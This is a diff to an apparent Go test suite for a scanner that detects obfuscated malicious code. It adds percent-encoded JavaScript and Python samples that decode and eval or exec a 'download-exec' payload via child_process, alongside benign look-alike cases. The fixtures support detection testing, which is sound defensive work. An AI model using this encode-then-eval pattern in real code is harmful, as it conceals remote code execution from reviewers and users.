@@ -26,6 +26,15 @@ func uniEsc(s string) string {
 	return b.String()
 }
 
+// pctEsc writes s as %HH escapes.
+func pctEsc(s string) string {
+	var b strings.Builder
+	for i := 0; i < len(s); i++ {
+		fmt.Fprintf(&b, "%%%02X", s[i])
+	}
+	return b.String()
+}
+
 func codes(s string) string {
 	var p []string
 	for _, r := range s {
@@ -76,7 +85,14 @@ func TestDecodedText(t *testing.T) {
 		{"js escaped strings spelling child_process", map[string]string{"lib/x.js": "var t=[" + escList("child_process", "exec", "whoami", "toString", "stdout", "length", "split", "join") + "];\nrequire(t[0])[t[1]](t[2]);\n"},
 			nil, "escaped-strings", record.Medium, 0, -1},
 
+		{"js eval of an unescaped payload", map[string]string{"lib/x.js": "eval(unescape('" + pctEsc("require('child_process').execSync('"+pipe+"')") + "'));\n"},
+			map[string]string{"lib/x.js": "eval(\"require('child_process').execSync('" + pipe + "')\");\n"}, "download-exec", record.Medium, 0, 1},
+		{"python exec of an unquoted payload", map[string]string{"acme/x.py": "from urllib.parse import unquote\nexec(unquote('" + pctEsc(pyPayload) + "'))\n"},
+			map[string]string{"acme/x.py": "exec(\"" + pyPayload + "\")\n"}, "download-exec", record.Medium, 0, 2},
+
 		// benign twins
+		{"js decoded URL with escaped spaces and CJK text", map[string]string{"lib/x.js": "const u = decodeURIComponent('https://example.invalid/a%20b%20c%20d/e?q=%E4%BD%A0%E5%A5%BD');\nconst t = decodeURIComponent('%E4%BD%A0%E5%A5%BD%E4%B8%96%E7%95%8C');\nmodule.exports = { u, t };\n"},
+			nil, "download-exec", quiet, record.Low, 0},
 		{"js escaped strings of harmless words", map[string]string{"lib/x.js": "var t=[" + escList("toString", "length", "split", "join", "push", "shift", "indexOf", "slice") + "];\nmodule.exports=t;\n"},
 			nil, "escaped-strings", record.Low, record.Low, -1},
 		{"js bundle escapes in regexes and a closing tag", map[string]string{"dist/bundle.min.js": "!function(e){var t=/[\\x00-\\x1f\\x7f-\\x9f]/g,n=\"\\x3c\\x2f\\x73\\x63\\x72\\x69\\x70\\x74\\x3e\",r=/[\\u0300-\\u036f]/;e.exports=function(o){return o.replace(t,'').replace(r,'')+n}}(module);\n"},
